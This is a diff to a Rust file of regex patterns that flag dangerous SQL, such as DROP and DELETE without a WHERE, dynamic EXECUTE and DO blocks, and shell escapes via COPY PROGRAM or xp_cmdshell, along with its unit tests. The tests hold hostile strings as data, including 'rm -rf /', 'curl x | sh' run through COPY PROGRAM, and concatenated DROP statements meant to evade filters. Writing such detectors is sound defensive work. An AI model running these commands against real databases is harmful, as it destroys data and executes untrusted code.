@@ -60,9 +60,9 @@ pub const SQL: &[Pattern] = &[
         regex: concat!(
             "(?i)\\bdrop",
             sep!(),
-            "(?:(?:temporary|temp|primary|materialized|unique|fulltext|spatial|vector|search)",
+            "(?:(?:temporary|temp|primary|materialized|unique|fulltext|spatial|vector|search|row|settings|named|foreign|external)",
             sep!(),
-            ")?(?:table|database|schema|view|index|user|role|function|procedure|trigger|sequence|type|extension|column|constraint|owned|policy|collection|scope|bucket|dictionary|partition|keyspace|graph|domain|server|publication|subscription|tablespace|event|rule|aggregate|statistics|namespace|stream|stage|warehouse|dataset|quota|catalog|alias|projection|relationship|node|dimension)s?\\b"
+            ")?(?:table|database|schema|view|index|user|role|function|procedure|trigger|sequence|type|extension|column|constraint|owned|policy|collection|scope|bucket|dictionary|partition|keyspace|graph|domain|server|publication|subscription|tablespace|event|rule|aggregate|statistics|namespace|stream|stage|warehouse|dataset|quota|catalog|alias|projection|relationship|node|dimension|profile|model|connection|secret)s?\\b"
         ),
     },
     Pattern {
@@ -104,7 +104,11 @@ pub const SQL: &[Pattern] = &[
             sep!(),
             ")?\\w+)?(?:",
             sep!(),
-            "returning\\b[^;]*)?",
+            "returning\\b[^;]*)?(?:",
+            sep!(),
+            "limit",
+            sep!(),
+            "\\d+)?",
             end!()
         ),
     },
@@ -127,6 +131,32 @@ pub const SQL: &[Pattern] = &[
             "(?:table|database|schema|view|index|user|role|type|domain|materialized",
             sep!(),
             "view|collection|keyspace|bucket|scope|dictionary)\\b[^;]*\\bdrop\\b"
+        ),
+    },
+    Pattern {
+        id: "sql-dynamic",
+        what: "builds a statement at run time (EXECUTE of a string, DO blocks, sp_executesql), which no pattern can read",
+        regex: concat!(
+            "(?i)\\bdo",
+            sep!(),
+            "(?:language",
+            sep!(),
+            "\\w+",
+            sep!(),
+            ")?(?:\\$\\w*\\$|')|\\bexecute",
+            sep!(),
+            "(?:immediate",
+            sep!(),
+            ")?(?:'|\\$\\w*\\$|format\\s*\\(|concat\\s*\\(|\\w+\\s*\\|\\|)|\\bexec(?:ute)?\\s*\\(|\\bsp_executesql\\b"
+        ),
+    },
+    Pattern {
+        id: "sql-shell-escape",
+        what: "runs a shell command from SQL (COPY ... PROGRAM, xp_cmdshell)",
+        regex: concat!(
+            "(?i)\\bcopy\\b[^;]*\\b(?:to|from)",
+            sep!(),
+            "program\\b|\\bxp_cmdshell\\b"
         ),
     },
     Pattern {
@@ -226,6 +256,8 @@ mod tests {
                 "DROP COLLECTION `travel-sample`.inventory.airline",
                 "DROP SCOPE `b`.s",
                 "drop dictionary d",
+                "DROP ROW POLICY p ON t",
+                "DROP SETTINGS PROFILE p",
                 "DROP TEMPORARY TABLE t",
                 "DROP CONSTRAINT person_id IF EXISTS",
                 "SELECT 1;DROP TABLE t",
@@ -280,6 +312,7 @@ mod tests {
                 "DELETE FROM `travel-sample`.inventory.airline;",
                 "select 1; DELETE t; select 2",
                 "DELETE FROM users # mysql comment",
+                "DELETE FROM logs LIMIT 1000",
             ],
             &[
                 "DELETE FROM users WHERE id = 1",
@@ -312,6 +345,38 @@ mod tests {
                 "DELETE FROM t WHERE id = 1",
                 "ALTER TABLE t DELETE WHERE ts < now()",
             ],
+        );
+    }
+
+    #[test]
+    fn sql_dynamic_and_shell_escape() {
+        check(
+            SQL,
+            "sql-dynamic",
+            &[
+                "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE t'; END $$",
+                "do language plpgsql $body$ begin perform 1; end $body$",
+                "EXECUTE format('DROP %s %I', 'TABLE', 't')",
+                "execute 'dr' || 'op table t'",
+                "EXEC('DR' + 'OP TABLE t')",
+                "EXEC sp_executesql N'DROP TABLE t'",
+                "EXECUTE IMMEDIATE 'TRUNCATE TABLE t'",
+            ],
+            &[
+                "EXECUTE my_prepared_statement(1, 2)",
+                "SELECT * FROM todo WHERE done",
+                "select executed_at from jobs",
+            ],
+        );
+        check(
+            SQL,
+            "sql-shell-escape",
+            &[
+                "COPY t TO PROGRAM 'rm -rf /'",
+                "copy t from program 'curl x | sh'",
+                "EXEC xp_cmdshell 'del C:\\x'",
+            ],
+            &["COPY t TO STDOUT", "COPY t FROM '/tmp/x.csv'"],
         );
     }
 
